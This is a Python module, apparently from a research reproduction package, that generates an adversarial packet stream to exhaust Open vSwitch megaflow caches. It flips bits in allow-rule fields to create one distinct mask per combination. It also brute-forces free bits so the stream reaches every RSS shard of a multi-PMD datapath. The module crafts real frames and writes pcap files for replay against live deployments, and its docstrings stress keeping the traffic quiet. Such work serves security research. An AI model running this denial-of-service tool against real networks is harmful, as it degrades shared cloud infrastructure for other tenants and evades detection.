"""The adversarial covert packet sequence.

"We also need a packet sequence that will populate the MF with the
'required' entries" — the paper omits the construction "in the interest
of space"; here it is:

For attack dimensions ``(f_1, L_1) … (f_k, L_k)`` (single-field allow
rules with prefix depth ``L_i``), the covert packet for mask combination
``(l_1, …, l_k)``, ``1 ≤ l_i ≤ L_i``, sets field ``f_i`` to the allow
value with **bit ``l_i − 1`` flipped**: the packet then agrees with the
allow prefix on the first ``l_i − 1`` bits and diverges at bit
``l_i − 1``, so the slow path's witness for rule ``i`` sits exactly at
prefix length ``l_i``.  Every combination yields a distinct megaflow
mask, all combinations are denied (every rule is mismatched), and the
full cross product ``Π L_i`` is covered with exactly one packet each.

All other header fields are pinned (same eth_type, ip_dst = the
attacker's own pod, the allow rule's protocol), so no accidental extra
masks appear — the stream is as quiet as possible: low-rate,
valid-looking traffic to the attacker's own pod that the default-deny
drops on arrival.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from itertools import product
from typing import Callable, Iterator, Sequence

from repro.attack.analysis import AttackDimension
from repro.flow.fields import FieldSpace, OVS_FIELDS
from repro.flow.key import FlowKey
from repro.net.addresses import MacAddr
from repro.net.ethernet import ETHERTYPE_IPV4, Ethernet
from repro.net.ipv4 import PROTO_TCP, PROTO_UDP, IPv4
from repro.net.l4 import Tcp, Udp
from repro.net.layers import Layer
from repro.net.pcap import PcapWriter
from repro.util.bits import bit_flip


def covert_keys_for_dimensions(
    dimensions: Sequence[AttackDimension],
    pinned: dict[str, int],
    space: FieldSpace = OVS_FIELDS,
) -> list[FlowKey]:
    """Generate one flow key per reachable mask combination.

    ``pinned`` supplies every non-attacked field (eth_type, ip_dst,
    ip_proto, and the allow values of attacked fields are taken from
    the dimensions themselves).

    Every value is validated once — the pinned fields as one key, each
    dimension's flipped values per prefix length — and the product is
    built from trusted tuples, each key with its packed form (the
    pinned fields' packed int with the flipped values ORed in).
    """
    if not dimensions:
        raise ValueError("need at least one attack dimension")
    names = [dim.field for dim in dimensions]
    if len(set(names)) != len(names):
        raise ValueError(f"duplicate attack dimensions: {names}")
    base = FlowKey(space, {
        name: value for name, value in pinned.items() if name not in names
    })
    template = list(base.values)
    indices = [space.index_of(name) for name in names]
    choices = []
    for dim, index in zip(dimensions, indices):
        offset = space.offsets[index]
        flipped = [
            space.specs[index].check(
                bit_flip(dim.allow_value, prefix_len - 1, dim.width)
            )
            for prefix_len in range(1, dim.prefix_len + 1)
        ]
        choices.append([(value, value << offset) for value in flipped])

    keys: list[FlowKey] = []
    base_packed = base.packed
    for combo in product(*choices):
        packed = base_packed
        for index, (value, shifted) in zip(indices, combo):
            template[index] = value
            packed |= shifted
        keys.append(FlowKey.from_tuple(space, tuple(template), packed))
    return keys


_M64 = (1 << 64) - 1


def _mixed_probe(counter: int, width: int) -> int:
    """A deterministic ``width``-bit probe pattern with every bit —
    high-order bits included — varying from the very first counter.

    A splitmix64 finalizer per 64-bit chunk: the enumeration order the
    spread-key search uses once the cheap single-bit walk is done, so a
    bounded budget samples the *whole* free-bit space instead of only
    its low-order corner.
    """
    pattern = 0
    offset = 0
    chunk_index = 0
    while offset < width:
        x = (counter + (chunk_index << 32) + 0x9E3779B97F4A7C15) & _M64
        x = ((x ^ (x >> 30)) * 0xBF58476D1CE4E5B9) & _M64
        x = ((x ^ (x >> 27)) * 0x94D049BB133111EB) & _M64
        x ^= x >> 31
        pattern |= x << offset
        offset += 64
        chunk_index += 1
    return pattern & ((1 << width) - 1)


#: the spread search's per-shard budget when it re-probes a live
#: dispatcher: a rebalanced RETA can leave one PMD owning a handful of
#: buckets, a target the default budget of 32 cannot reliably hit
REPROBE_TRIES = 128


@dataclass
class SpreadCoverage:
    """Explicit shard-coverage accounting for a spread-key search.

    :meth:`CovertStreamGenerator.spread_keys` historically dropped
    shards *silently* when its per-combination search budget ran out —
    indistinguishable from shards that are genuinely unreachable (no
    free wildcarded-bit entropy left).  This report separates the two:
    ``missed`` lists every (combination, shard) gap, and
    ``budget_exhausted`` counts the combinations abandoned with free
    entropy still unexplored.
    """

    #: one steered variant per reached (combination, shard) pair, in
    #: combination order then shard order — what ``spread_keys`` returns
    keys: list[FlowKey] = field(default_factory=list)
    #: the combination index each key belongs to (parallel to ``keys``)
    combo_of: list[int] = field(default_factory=list)
    shards: int = 0
    combos: int = 0
    #: combination index -> shards no variant was found for
    missed: dict[int, tuple[int, ...]] = field(default_factory=dict)
    #: combinations abandoned with unexplored free-bit entropy left
    #: (raise ``max_tries_per_shard`` to search further); the remaining
    #: ``missed`` entries are genuinely unreachable
    budget_exhausted: int = 0

    @property
    def reached_pairs(self) -> int:
        return self.combos * self.shards - sum(
            len(gaps) for gaps in self.missed.values()
        )

    @property
    def coverage(self) -> float:
        """Fraction of (combination, shard) pairs a variant reaches."""
        total = self.combos * self.shards
        return self.reached_pairs / total if total else 1.0

    @property
    def complete(self) -> bool:
        return not self.missed


class CovertStreamGenerator:
    """Generates the covert stream as flow keys *and* as real packets.

    The flow keys drive the in-process dataplane model; the packets
    (and their pcap export) target replay against a real deployment.
    """

    def __init__(
        self,
        dimensions: Sequence[AttackDimension],
        dst_ip: int,
        space: FieldSpace = OVS_FIELDS,
        protocol: int = PROTO_TCP,
        src_mac: str = "02:00:00:aa:00:01",
        dst_mac: str = "02:00:00:aa:00:02",
        default_src_ip: int = 0x0A000001,
        default_sport: int = 40000,
        default_dport: int = 40001,
        frame_pad: int = 64,
    ) -> None:
        if protocol not in (PROTO_TCP, PROTO_UDP):
            raise ValueError("covert stream must be TCP or UDP")
        self.dimensions = list(dimensions)
        self.space = space
        self.protocol = protocol
        self.dst_ip = dst_ip
        self.src_mac = MacAddr(src_mac)
        self.dst_mac = MacAddr(dst_mac)
        self.default_src_ip = default_src_ip
        self.default_sport = default_sport
        self.default_dport = default_dport
        self.frame_pad = frame_pad

    def pinned_fields(self) -> dict[str, int]:
        """The non-attacked field values every covert packet shares."""
        pinned = {
            "eth_type": ETHERTYPE_IPV4,
            "ip_dst": self.dst_ip,
            "ip_proto": self.protocol,
            "ip_src": self.default_src_ip,
            "tp_src": self.default_sport,
            "tp_dst": self.default_dport,
        }
        return {name: value for name, value in pinned.items() if name in self.space}

    def keys(self) -> list[FlowKey]:
        """The full adversarial key sequence (one per target mask)."""
        return covert_keys_for_dimensions(self.dimensions, self.pinned_fields(), self.space)

    def burst(self):
        """:meth:`keys` as a pre-packed
        :class:`~repro.perf.burst.KeyBurst` — the batch-first pipeline's
        unit of traffic (packed ints and RSS buckets derived once,
        cyclic lap slicing instead of per-packet indexing)."""
        from repro.perf.burst import KeyBurst

        return KeyBurst(self.keys())

    def spread_keys(
        self,
        shards: int,
        shard_of: Callable[[FlowKey], int],
        max_tries_per_shard: int = 32,
    ) -> list[FlowKey]:
        """The hash-aware covert stream against a sharded datapath: per
        reachable mask combination, one key variant per PMD shard.

        A multi-PMD datapath RSS-dispatches packets by their headers, so
        the plain :meth:`keys` stream scatters — each mask lands only on
        the one shard its key hashes to, and the damage is *diluted* by
        the shard count.  The hash-aware attacker defeats that: for a
        combination whose witness sits at prefix length ``l_i``, the
        resulting megaflow wildcards every bit of field ``f_i`` below
        bit ``l_i - 1`` — so those bits are free entropy.  Varying them
        changes the RSS hash without changing the mask *or* the masked
        key the megaflow stores, and a brute-force search over the free
        bits (``shard_of`` is the attacker's model of the dispatcher)
        finds one variant per shard.  Every shard then receives the full
        mask cross-product, at ``shards``× the (still tiny) covert
        bandwidth.

        Combinations without enough free entropy (witnesses at full
        depth) stay confined to wherever their single key hashes.
        Deterministic given the dispatcher: no randomness involved.
        Coverage is explicit: this is
        ``spread_coverage(...).keys`` — call :meth:`spread_coverage`
        directly for the per-combination reached-shard report.
        """
        return self.spread_coverage(
            shards, shard_of, max_tries_per_shard=max_tries_per_shard
        ).keys

    def spread_coverage(
        self,
        shards: int,
        shard_of: Callable[[FlowKey], int],
        max_tries_per_shard: int = 32,
    ) -> SpreadCoverage:
        """The hash-aware search with explicit per-combination coverage.

        Per combination the search probes the free wildcarded bits in
        three deterministic stages, all within a
        ``max_tries_per_shard * shards`` budget:

        1. the base key itself (no bits flipped);
        2. every single free bit, **highest-order first** — so the
           search exercises the whole free-bit space before giving up,
           instead of counting through its low-order corner;
        3. splitmix-mixed patterns (:func:`_mixed_probe`) that vary
           every free bit at once.

        A combination that ends with unreached shards *and* unexplored
        entropy is counted in ``budget_exhausted``; one whose entire
        free space was enumerated is genuinely unreachable.  The old
        low-order counter walk could exhaust its budget on wide free
        spaces while whole shards hid behind untouched high bits — and
        reported nothing.
        """
        if shards < 1:
            raise ValueError("shards must be >= 1")
        base = dict(self.pinned_fields())
        for dim in self.dimensions:
            base.setdefault(dim.field, dim.allow_value)
        report = SpreadCoverage(shards=shards)
        ranges = [range(1, dim.prefix_len + 1) for dim in self.dimensions]
        budget = max(max_tries_per_shard, 1) * shards
        for combo_index, combo in enumerate(product(*ranges)):
            report.combos += 1
            values = dict(base)
            free: list[tuple[str, int]] = []
            for dim, prefix_len in zip(self.dimensions, combo):
                values[dim.field] = bit_flip(
                    dim.allow_value, prefix_len - 1, dim.width
                )
                # bits strictly below the witness are wildcarded by the
                # resulting megaflow: free entropy for RSS steering
                free.append((dim.field, dim.width - prefix_len))
            total_free = sum(bits for _field, bits in free)
            if shards == 1 or total_free == 0:
                key = FlowKey(self.space, values)
                report.keys.append(key)
                report.combo_of.append(combo_index)
                if shards > 1:
                    reached = shard_of(key)
                    report.missed[combo_index] = tuple(
                        s for s in range(shards) if s != reached
                    )
                continue
            space_size = 1 << total_free
            exhaustive = space_size <= budget
            wanted = set(range(shards))
            found: dict[int, FlowKey] = {}
            tried: set[int] = set()
            probes = self._probe_patterns(total_free, budget, exhaustive)
            for pattern in probes:
                if pattern in tried:
                    continue
                tried.add(pattern)
                variant = dict(values)
                cursor = pattern
                for field_name, bits in free:
                    if not bits:
                        continue
                    chunk = cursor & ((1 << bits) - 1)
                    cursor >>= bits
                    if chunk:
                        variant[field_name] ^= chunk
                key = FlowKey(self.space, variant)
                shard = shard_of(key)
                if shard in wanted:
                    wanted.discard(shard)
                    found[shard] = key
                    if not wanted:
                        break
            for shard in sorted(found):
                report.keys.append(found[shard])
                report.combo_of.append(combo_index)
            if wanted:
                report.missed[combo_index] = tuple(sorted(wanted))
                if not exhaustive and len(tried) < space_size:
                    report.budget_exhausted += 1
        return report

    @staticmethod
    def _probe_patterns(total_free: int, budget: int,
                        exhaustive: bool) -> Iterator[int]:
        """The deterministic probe order over a free-bit space: base
        key, single bits highest-first, then mixed full-width patterns
        (or plain exhaustive enumeration when the space fits the
        budget)."""
        if exhaustive:
            yield from range(1 << total_free)
            return
        yield 0
        emitted = 1
        for bit in range(total_free - 1, -1, -1):
            if emitted >= budget:
                return
            yield 1 << bit
            emitted += 1
        counter = 0
        while emitted < budget:
            yield _mixed_probe(counter, total_free)
            counter += 1
            emitted += 1

    def packet_for_key(self, key: FlowKey) -> Layer:
        """Craft the real on-the-wire packet realising one flow key."""
        l4: Layer
        if self.protocol == PROTO_TCP:
            l4 = Tcp(sport=key.get("tp_src"), dport=key.get("tp_dst"))
        else:
            l4 = Udp(sport=key.get("tp_src"), dport=key.get("tp_dst"))
        return (
            Ethernet(src=self.src_mac, dst=self.dst_mac, pad_to_min=True)
            / IPv4(src=key.get("ip_src"), dst=key.get("ip_dst"), proto=self.protocol)
            / l4
        )

    def packets(self) -> Iterator[Layer]:
        """Craft every covert packet."""
        for key in self.keys():
            yield self.packet_for_key(key)

    def frames(self) -> Iterator[bytes]:
        """Serialise every covert packet to wire bytes."""
        for packet in self.packets():
            yield packet.build()

    def write_pcap(self, path: str, rate_pps: float = 1000.0) -> int:
        """Export the stream for tcpreplay; returns the packet count."""
        with PcapWriter(path) as writer:
            return writer.write_all(self.frames(), rate_pps=rate_pps)
